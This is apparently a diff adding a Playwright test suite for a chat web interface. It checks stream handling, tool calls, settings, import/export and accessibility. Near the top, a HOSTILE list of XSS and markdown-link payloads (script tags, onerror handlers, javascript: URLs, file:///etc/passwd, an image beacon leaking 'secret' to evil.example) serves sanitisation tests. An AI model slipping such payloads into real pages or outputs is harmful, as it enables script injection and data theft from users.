@@ -1,0 +1,473 @@
+"""The chat page and what servers and models do to it: cut characters, hostile text, failures."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from acts import ask, last_answer, send, wait_answered, wait_stored
+from scripted import Failure, Script, answer, chunk
+
+OpenTab = Callable[..., Any]
+
+
+def test_characters_cut_by_the_network_arrive_whole(tab: Any, script: Script) -> None:
+    text = "你好,世界。🦊👩‍👩‍👧 é"
+    stream = b"".join(part for part in answer(text) if isinstance(part, bytes))
+    stream = stream.replace(b"\n\n", b"\r\n\r\n")
+    cut: list[bytes | float] = []
+    for byte in stream:
+        cut += [bytes([byte]), 0.0005]
+    script.say(*cut)
+    assert ask(tab, "Hi") == text
+
+
+def test_lines_that_are_no_data_are_passed_over(tab: Any, script: Script) -> None:
+    noise = b": keep-alive\n\nevent: message\nid: 7\nretry: 10\n"
+    script.say(noise, *answer(["a", "b"]))
+    assert ask(tab, "Hi") == "ab"
+
+
+# Each tries to run `hit()`, to load something, or to become an element that can.
+HOSTILE = [
+    "<script>hit()</script>",
+    "<img src=x onerror=hit()>",
+    "<svg onload=hit()><animate onbegin=hit() attributeName=x>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<a href='javascript:hit()'>x</a>",
+    "<details open ontoggle=hit()>",
+    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=javascript:hit()'><base href=//evil.example>",
+    "<form action=javascript:hit()><button>x</button></form>",
+    "[x](javascript:hit())",
+    "[x](  JaVaScRiPt:hit())",
+    "[x](java\tscript:hit())",
+    "[x](&#106;avascript:hit())",
+    "[x](javascript&colon;hit())",
+    "[x](<javascript:hit()>)",
+    "[x](data:text/html,<script>hit()</script>)",
+    "[x](vbscript:hit())",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "[x](https://ok.example \"' onmouseover='hit()\")",
+    '[x](https://ok.example" onmouseover="hit())',
+    "[![x](javascript:hit())](javascript:hit())",
+    "![x](https://evil.example/leak.png?q=secret)",
+    "![x](data:image/svg+xml,<svg onload=hit()>)",
+    "<javascript:hit()>",
+    "<https://ok.example/?a=\"onclick=hit()>",
+    "https://ok.example/\"onmouseover=\"hit()",
+    "`<img src=x onerror=hit()>`",
+    "```html\"><img src=x onerror=hit()>\n<script>hit()</script>\n```",
+    "```__proto__\nx\n```",
+    "```constructor\nx\n```",
+    "| <img src=x onerror=hit()> | b |\n|--|--|\n| <script>hit()</script> | [x](javascript:a) |",
+    "- [x] <img src=x onerror=hit()>",
+    "> <script>hit()</script>",
+    "# <img src=x onerror=hit()>",
+    "\u202e<script>hit()</script>\u0000<img src=x onerror=hit()>",
+]  # fmt: skip
+
+ALLOWED = {
+    "A", "ARTICLE", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DETAILS", "DIV", "EM", "H2", "H3",
+    "H4", "H5", "H6", "HR", "INPUT", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "SUMMARY", "svg",
+    "path", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "FORM", "LABEL", "TEXTAREA",
+}  # fmt: skip
+
+
+def assert_harmless(tab: Any, requests: list[str], url: str) -> None:
+    """No element, attribute or address of the messages does anything; nothing was fetched."""
+    found = tab.evaluate(
+        """() => [...document.querySelectorAll("#messages *, #sidebar *, #models *, h1")].map(
+            (each) => [each.tagName, each.getAttributeNames(), each.getAttribute("href")])"""
+    )
+    tags = {tag for tag, _, _ in found}
+    assert tags <= ALLOWED | {"H1", "NAV", "SELECT", "OPTION"}
+    for _, names, href in found:
+        assert not [name for name in names if name.startswith("on")]
+        assert href is None or href.startswith(("https://", "http://", "mailto:"))
+    for link in tab.locator("#messages a").all():
+        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
+        link.hover()
+    assert tab.evaluate("window.hits") == 0
+    assert [each for each in requests if not each.startswith((url, "blob:", "data:"))] == []
+
+
+def armed(open_tab: OpenTab, script: Script) -> tuple[Any, list[str]]:
+    """A page where `hit()` counts, and the addresses it asks for."""
+    tab = open_tab(script.url)
+    requests: list[str] = []
+    tab.on("request", lambda request: requests.append(request.url))
+    tab.evaluate("() => { window.hits = 0; window.hit = () => { window.hits += 1; }; }")
+    return tab, requests
+
+
+def test_hostile_markdown_runs_no_script(open_tab: OpenTab, script: Script) -> None:
+    tab, requests = armed(open_tab, script)
+    text = "\n\n".join(HOSTILE)
+    script.say(*answer([text[i : i + 3] for i in range(0, len(text), 3)], reasoning=[text]))
+    ask(tab, "\n\n".join(HOSTILE))
+    tab.locator(".reasoning summary").click()
+    tab.wait_for_selector(".thought p")
+    shown = tab.locator(".message.assistant .markdown").inner_text()
+    assert "<script>hit()</script>" in shown  # it is there, as text
+    assert_harmless(tab, requests, script.url)
+
+
+def test_hostile_calls_names_and_titles_run_no_script(open_tab: OpenTab, script: Script) -> None:
+    evil = "<img src=x onerror=hit()>\"'><script>hit()</script>"
+    script.models[0]["id"] = evil
+    script.models[0]["state"] = "failed"
+    script.models[0]["error"] = evil
+    tab, requests = armed(open_tab, script)
+    arguments = json.dumps({evil: evil})
+    script.say(*answer("", calls=[(evil, arguments)], finish="tool_calls"))
+    send(tab, evil)
+    tab.wait_for_selector("form.results")
+    script.say(Failure(400, evil, evil))
+    tab.fill("form.results textarea", evil)
+    tab.get_by_role("button", name="Send results").click()
+    tab.wait_for_selector(".note.error")
+    tab.locator(".result summary").click()
+    assert_harmless(tab, requests, script.url)
+
+
+def test_hostile_import_runs_no_script(open_tab: OpenTab, script: Script, tmp_path: Any) -> None:
+    tab, requests = armed(open_tab, script)
+    evil = "<img src=x onerror=hit()>"
+    node = {
+        "id": evil, "parent": None, "children": [], "chosen": None, "role": "assistant",
+        "content": "\n\n".join(HOSTILE), "reasoning": evil, "calls": [{"name": evil, "id": 5}],
+        "stats": {"rate": evil, "tokens": 3}, "onload": "hit()", "error": {"message": evil},
+    }  # fmt: skip
+    conversation = {
+        "id": evil, "title": evil, "system": evil, "settings": {"temperature": [evil]},
+        "top": {"children": [evil], "chosen": evil}, "nodes": {evil: node},
+    }  # fmt: skip
+    file = tmp_path / "evil.json"
+    document = {"format": "zinc-conversations", "version": 1, "conversations": [conversation]}
+    file.write_text(json.dumps(document))
+    import_file(tab, file)
+    tab.keyboard.press("Escape")
+    tab.locator("#conversations .open").click()
+    tab.wait_for_selector(".message.assistant")
+    assert_harmless(tab, requests, script.url)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("not json", "not JSON"),
+        ("[]", "holds no conversations"),
+        ('{"format": "zinc-conversations", "version": 9, "conversations": []}', "another version"),
+        ('{"format": "zinc-conversations", "version": 1, "conversations": [{}]}', "1 in the file"),
+        # A message that follows itself would be shown without end.
+        (
+            '{"format": "zinc-conversations", "version": 1, "conversations": [{"top": '
+            '{"children": ["a"], "chosen": "a"}, "nodes": {"a": {"role": "user", "parent": null, '
+            '"children": ["a"], "chosen": "a"}}}]}',
+            "damaged",
+        ),
+    ],
+)
+def test_bad_imports_are_refused(tab: Any, tmp_path: Any, text: str, message: str) -> None:
+    file = tmp_path / "bad.json"
+    file.write_text(text)
+    import_file(tab, file)
+    assert message in tab.locator(".toast").inner_text()
+    assert tab.locator("#conversations .open").count() == 0
+
+
+def import_file(tab: Any, file: Any) -> None:
+    tab.click("#open-settings")
+    tab.set_input_files("#settings input[type=file]", file)
+    tab.wait_for_selector(".toast")
+
+
+def test_tool_calls_are_shown_and_answered(tab: Any, script: Script) -> None:
+    tools = '[{"name": "get_weather", "parameters": {"type": "object"}}]'
+    tab.click("#open-settings")
+    tab.get_by_label("Functions").fill(tools)
+    tab.keyboard.press("Escape")
+    calls = [("get_weather", '{"city": "Lisbon"}'), ("get_weather", '{"city": "Oslo"}')]
+    script.say(*answer("Let me look.", calls=calls, finish="tool_calls"))
+    script.say(*answer("Warm and cold."))
+    send(tab, "Weather?")
+    tab.wait_for_selector("form.results")
+    assert tab.locator(".call pre").all_inner_texts() == [
+        '{\n  "city": "Lisbon"\n}', '{\n  "city": "Oslo"\n}',
+    ]  # fmt: skip
+    areas = tab.locator("form.results textarea")
+    areas.nth(0).fill("18")
+    areas.nth(1).fill("-3")
+    tab.get_by_role("button", name="Send results").click()
+    tab.wait_for_function("() => document.querySelectorAll('.message.assistant').length === 2")
+    wait_answered(tab)
+    assert last_answer(tab) == "Warm and cold."
+    first, second = script.asked
+    function = {"name": "get_weather", "parameters": {"type": "object"}}
+    assert first["tools"] == [{"type": "function", "function": function}]
+    assert second["messages"][1]["tool_calls"][1]["function"]["arguments"] == '{"city": "Oslo"}'
+    assert second["messages"][2:] == [
+        {"role": "tool", "tool_call_id": "call_0", "name": "get_weather", "content": "18"},
+        {"role": "tool", "tool_call_id": "call_1", "name": "get_weather", "content": "-3"},
+    ]
+
+
+def test_bad_tools_are_told_before_anything_is_sent(tab: Any, script: Script) -> None:
+    tab.click("#open-settings")
+    tab.get_by_label("Functions").fill('[{"nam": 1}]')
+    tab.keyboard.press("Escape")
+    send(tab, "Hi")
+    tab.wait_for_selector(".toast")
+    assert tab.input_value("#prompt") == "Hi"
+    assert script.asked == []
+
+
+def test_reasoning_shows_its_time_while_it_runs(tab: Any, script: Script) -> None:
+    parts = answer("Done.", reasoning=["First, ", "then."])
+    script.say(*parts[:3], 1.2, *parts[3:])
+    send(tab, "Think")
+    tab.wait_for_selector(".reasoning.active")
+    assert tab.locator(".reasoning summary").inner_text().startswith("Thinking…")
+    wait_answered(tab)
+    label = tab.locator(".reasoning summary").inner_text()
+    assert re.fullmatch(r"Thought for [1-9].*s", label)
+    assert not tab.locator(".thought").is_visible()
+
+
+def test_loading_model_is_waited_for(tab: Any, script: Script) -> None:
+    script.models[0].update(state="loading", progress=0.42)
+    script.say(Failure(503, "the model is being loaded", "model_loading", {"Retry-After": "1"}))
+    script.say(*answer("Here."))
+    send(tab, "Hi")
+    tab.wait_for_selector("#models .dot[data-state=loading]")
+    assert tab.locator("#models .state").inner_text() == "loading 42 %"
+    script.models[0].update(state="loaded")
+    wait_answered(tab)
+    assert last_answer(tab) == "Here."
+    tab.wait_for_selector("#models .dot[data-state=loaded]")
+
+
+def test_failures_are_told_and_can_be_tried_again(tab: Any, script: Script) -> None:
+    script.say(Failure(500, "the server failed on this request"))
+    script.say(*answer("Better."))
+    send(tab, "Hi")
+    tab.wait_for_selector(".note.error")
+    assert "the server failed" in tab.locator(".note.error").inner_text()
+    tab.get_by_role("button", name="Try again").click()
+    tab.wait_for_selector(".markdown p")
+    assert last_answer(tab) == "Better."
+
+
+def test_broken_stream_keeps_what_came(tab: Any, script: Script) -> None:
+    script.say(*answer(["Half", " an"])[:3])
+    send(tab, "Hi")
+    tab.wait_for_selector(".note.error")
+    assert last_answer(tab) == "Half an"
+    assert "broke off" in tab.locator(".note.error").inner_text()
+
+
+def test_error_in_the_stream_is_told(tab: Any, script: Script) -> None:
+    error = b'data: {"error": {"message": "out of memory", "code": null}}\n\n'
+    script.say(chunk({"content": "Half"}), error)
+    send(tab, "Hi")
+    tab.wait_for_selector(".note.error")
+    assert "out of memory" in tab.locator(".note.error").inner_text()
+
+
+def test_stop_closes_the_connection(tab: Any, script: Script) -> None:
+    parts: list[bytes | float] = [chunk({"content": "x"})]
+    for _ in range(200):
+        parts += [0.05, chunk({"content": " x" * 2000})]
+    script.say(*parts)
+    send(tab, "Hi")
+    tab.wait_for_selector(".markdown p")
+    tab.click("#stop")
+    wait_answered(tab)
+    assert script.gone.wait(10)
+
+
+def test_settings_reach_the_request(tab: Any, script: Script) -> None:
+    tab.click("#open-settings")
+    assert tab.get_attribute('input[name="temperature"]', "placeholder") == "0.8"
+    tab.get_by_label("What the model is told first").fill("Be brief.")
+    tab.fill('input[name="temperature"]', "0.2")
+    tab.fill('input[name="top_k"]', "7")
+    tab.fill('input[name="top_p"]', "5")  # out of range: not sent, and marked
+    assert tab.get_attribute('input[name="top_p"]', "aria-invalid") == "true"
+    tab.fill('input[name="seed"]', "11")
+    tab.get_by_label("Stop strings").fill("END\n###")
+    tab.select_option('select[name="thinking"]', "on")
+    tab.fill('input[name="thinking_budget"]', "64")
+    tab.get_by_role("button", name="Use these settings for new chats").click()
+    tab.keyboard.press("Escape")
+    tab.click("#new-chat")
+    script.say(*answer("Ok."))
+    ask(tab, "Hi")
+    body = script.asked[0]
+    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
+    expected = {
+        "temperature": 0.2, "top_k": 7, "seed": 11, "stop": ["END", "###"],
+        "enable_thinking": True, "thinking_budget": 64, "model": "demo", "stream": True,
+    }  # fmt: skip
+    assert {name: body[name] for name in expected} == expected
+    assert "top_p" not in body
+
+
+def test_model_is_picked_and_kept(tab: Any, script: Script) -> None:
+    script.models.append({"id": "other", "state": "unloaded", "meta": {}})
+    tab.reload()
+    tab.wait_for_selector("#models option >> nth=1", state="attached")
+    assert tab.locator("#models option").nth(1).inner_text() == "other (not loaded)"
+    tab.select_option("#models select", "other")
+    script.say(*answer("Ok."))
+    ask(tab, "Hi")
+    assert script.asked[0]["model"] == "other"
+    tab.reload()
+    tab.wait_for_selector("#models option >> nth=1", state="attached")
+    assert tab.input_value("#models select") == "other"
+
+
+def test_search_rename_delete_and_undo(tab: Any, script: Script) -> None:
+    for question, reply in (("First one", "About apples."), ("Second one", "About pears.")):
+        script.say(*answer(reply))
+        ask(tab, question)
+        tab.click("#new-chat")
+    names = tab.locator("#conversations .name")
+    assert names.all_inner_texts() == ["Second one", "First one"]
+    tab.fill("#search", "APPLES")
+    assert names.all_inner_texts() == ["First one"]
+    assert "apples" in tab.locator(".snippet").inner_text()
+    tab.fill("#search", "")
+    tab.get_by_role("button", name="Rename First one").focus()
+    tab.keyboard.press("Enter")
+    tab.keyboard.type("Fruit")
+    tab.keyboard.press("Enter")
+    assert names.all_inner_texts() == ["Second one", "Fruit"]
+    tab.get_by_role("button", name="Delete Second one").focus()
+    tab.keyboard.press("Enter")
+    assert names.all_inner_texts() == ["Fruit"]
+    tab.get_by_role("button", name="Undo").click()
+    assert names.all_inner_texts() == ["Second one", "Fruit"]
+    wait_stored(tab, "Fruit")
+    tab.reload()
+    tab.wait_for_selector("#conversations .name")
+    assert names.all_inner_texts() == ["Second one", "Fruit"]
+
+
+def test_export_and_import(open_tab: OpenTab, script: Script, tmp_path: Any) -> None:
+    tab = open_tab(script.url)
+    script.say(*answer("One **bold** word.", reasoning=["Hm."]))
+    script.say(*answer("Two."))
+    ask(tab, "Hello")
+    tab.get_by_role("button", name="Answer again").click()
+    wait_answered(tab)
+    tab.click("#open-settings")
+    with tab.expect_download() as download:
+        tab.get_by_role("button", name="Export all").click()
+    file = tmp_path / "all.json"
+    download.value.save_as(file)
+    other = open_tab(script.url)  # another browser
+    import_file(other, file)
+    other.keyboard.press("Escape")
+    other.locator("#conversations .open").click()
+    assert last_answer(other) == "Two."
+    other.get_by_role("button", name="Earlier version").click()
+    assert last_answer(other) == "One bold word."
+    other.locator(".reasoning summary").click()
+    other.wait_for_selector(".thought p")
+    assert other.locator(".thought").inner_text() == "Hm."
+
+
+def test_another_tab_hears_of_changes(tab: Any, script: Script) -> None:
+    other = tab.context.new_page()
+    other.goto(script.url)
+    other.wait_for_selector("#models option", state="attached")
+    script.say(*answer("Hello."))
+    ask(tab, "Said in the first tab")
+    other.wait_for_selector("#conversations .name")
+    assert other.locator("#conversations .name").inner_text() == "Said in the first tab"
+
+
+def test_a_conversation_is_answered_while_another_is_read(tab: Any, script: Script) -> None:
+    script.say(*answer(["slow"] * 30, pause=0.05))
+    send(tab, "First")
+    tab.wait_for_selector(".markdown p")
+    tab.click("#new-chat")
+    assert tab.locator("#conversations .pulse").count() == 1
+    script.say(*answer("quick"))
+    ask(tab, "Second")
+    assert last_answer(tab) == "quick"
+    tab.wait_for_selector("#conversations .pulse", state="detached")
+    tab.locator("#conversations .open", has_text="First").click()
+    assert last_answer(tab) == "slow" * 30
+
+
+def test_copying_code_and_messages(open_tab: OpenTab, script: Script) -> None:
+    tab = open_tab(script.url, permissions=["clipboard-read", "clipboard-write"])
+    text = "Run\n\n```sh\nmake\n\ttest\n```"
+    script.say(*answer(text))
+    ask(tab, "How?")
+    tab.get_by_role("button", name="Copy code").click()
+    tab.wait_for_selector("[aria-label=Copied]")
+    assert tab.evaluate("navigator.clipboard.readText()") == "make\n\ttest"
+    tab.locator(".message.assistant").get_by_role("button", name="Copy message").click()
+    tab.wait_for_selector(".foot [aria-label=Copied]")
+    assert tab.evaluate("navigator.clipboard.readText()") == text
+
+
+def test_long_answer_leaves_its_finished_part_alone(tab: Any, script: Script) -> None:
+    """What is drawn for a new piece does not grow with what is above it."""
+    paragraph = "Some **words** with `code` in a line.\n\n"
+    tab.evaluate(
+        """() => {
+            window.added = 0;
+            new MutationObserver((records) => {
+                for (const record of records) window.added += record.addedNodes.length;
+            }).observe(document.querySelector("#messages"), { childList: true, subtree: true });
+        }"""
+    )
+    script.say(*answer([paragraph] * 400, pause=0.001))
+    ask(tab, "Go on")
+    assert tab.locator(".markdown p").count() == 400
+    assert tab.evaluate("window.added") < 400 * 12
+
+
+def test_screen_readers_hear_the_answer_by_blocks(tab: Any, script: Script) -> None:
+    tab.evaluate(
+        """() => {
+            window.heard = [];
+            new MutationObserver((records) => {
+                for (const { addedNodes } of records) {
+                    for (const node of addedNodes) window.heard.push(node.textContent);
+                }
+            }).observe(document.querySelector("#announcer"), { childList: true });
+        }"""
+    )
+    script.say(*answer(["One.\n\n", "- two\n- three\n\nFour."]))
+    ask(tab, "Hi")
+    tab.wait_for_function("() => window.heard.at(-1) === 'The answer is complete.'")
+    assert tab.evaluate("window.heard") == [
+        "The answer begins.", "One.", "twothree", "Four.", "The answer is complete.",
+    ]  # fmt: skip
+    assert tab.get_attribute("#announcer", "aria-live") == "polite"
+
+
+def test_scrolling_up_is_left_alone(tab: Any, script: Script) -> None:
+    script.say(*answer(["A line.\n\n"] * 120, pause=0.01))
+    send(tab, "Go on")
+    tab.wait_for_function("() => document.querySelectorAll('.markdown p').length > 40")
+    at_end = "(e) => e.scrollHeight - e.scrollTop - e.clientHeight < 60"
+    assert tab.locator("#thread").evaluate(at_end)
+    tab.locator("#thread").hover()
+    tab.mouse.wheel(0, -400)
+    tab.wait_for_selector("#to-end:visible")
+    top = tab.locator("#thread").evaluate("(e) => e.scrollTop")
+    wait_answered(tab)
+    assert tab.locator("#thread").evaluate("(e) => e.scrollTop") == top
+    tab.click("#to-end")
+    assert tab.locator("#thread").evaluate(at_end)
